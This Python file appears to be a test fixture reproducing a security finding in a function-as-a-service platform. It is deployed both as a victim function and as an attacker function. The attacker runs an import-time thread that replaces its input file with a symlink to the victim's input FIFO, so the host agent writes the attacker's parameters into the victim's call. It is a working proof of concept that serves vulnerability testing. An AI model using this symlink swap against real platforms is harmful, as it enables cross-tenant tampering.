"""One call rewriting another call's input (issue 10, finding 2).

Deployed twice. As the victim (no ROLE) it returns the event it was given
and prints it. As the attacker (env ROLE=attacker), preloaded, its
import-time thread waits for the host path of the victim's input FIFO in
/faas/io/target (the test writes it there from the host, standing in for
the leak of finding 1: the agent's /proc/self/mounts names every container
directory) and then replaces its own io/input.json with a symlink to it:
when the attacker's call arrives, an agent that opens that path on the
host writes the attacker's params into the victim.
"""
import json
import os
import threading
import time

IO = "/faas/io"


def attack():
    deadline = time.time() + 120
    while time.time() < deadline:
        try:
            with open(os.path.join(IO, "target")) as f:
                target = f.read().strip()
        except OSError:
            time.sleep(0.05)
            continue
        if not target:
            time.sleep(0.05)
            continue
        result = "symlinked"
        try:
            os.unlink(os.path.join(IO, "input.json"))
            os.symlink(target, os.path.join(IO, "input.json"))
        except OSError as err:
            result = err.strerror
        try:
            with open(os.path.join(IO, "attack-result"), "w") as f:
                f.write(result)
        except OSError:
            pass
        return


if os.environ.get("ROLE") == "attacker":
    threading.Thread(target=attack, daemon=True).start()


def handler(event, context):
    print("victim got", json.dumps(event, sort_keys=True))
    return {"event": event, "role": os.environ.get("ROLE", "victim")}
